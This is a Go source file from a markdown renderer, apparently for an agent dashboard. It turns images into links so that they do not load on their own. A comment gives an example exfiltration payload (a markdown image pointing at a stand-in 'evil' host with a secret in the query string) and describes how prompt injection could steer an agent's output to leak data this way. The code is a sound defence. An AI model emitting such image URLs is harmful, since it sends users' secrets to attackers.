package markdown

import (
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/parser"
	"github.com/yuin/goldmark/text"
)

// linkTransformer runs after parsing. It turns images into links and marks
// every link target=_blank.
type linkTransformer struct{}

func (linkTransformer) Transform(doc *ast.Document, _ text.Reader, _ parser.Context) {
	var images []*ast.Image
	var links []ast.Node
	_ = ast.Walk(doc, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch n := n.(type) {
		case *ast.Image:
			images = append(images, n)
		case *ast.Link, *ast.AutoLink:
			links = append(links, n)
		}
		return ast.WalkContinue, nil
	})
	// Replace after walking: changing the tree under ast.Walk is unsafe.
	for _, img := range images {
		links = append(links, imageToLink(img))
	}
	for _, n := range links {
		// Relative links would resolve against the dashboard and navigate
		// away from it, so they open in a new tab too. bluemonday keeps
		// target only when it is exactly _blank and adds noopener.
		n.SetAttributeString("target", []byte("_blank"))
	}
}

// imageToLink replaces img with a link to the same URL. An agent's output
// can be steered by prompt injection, and an auto-loading image whose URL
// carries data (`![](https://evil/?q=secret)`) would exfiltrate it the moment
// the phone renders the message. A link needs a deliberate tap.
func imageToLink(img *ast.Image) *ast.Link {
	link := ast.NewLink()
	link.Destination = img.Destination
	link.Title = img.Title
	for c := img.FirstChild(); c != nil; {
		next := c.NextSibling()
		link.AppendChild(link, c) // AppendChild detaches c from img first.
		c = next
	}
	if !link.HasChildren() {
		link.AppendChild(link, ast.NewString([]byte("image")))
	}
	if p := img.Parent(); p != nil {
		p.ReplaceChild(p, img, link)
	}
	return link
}
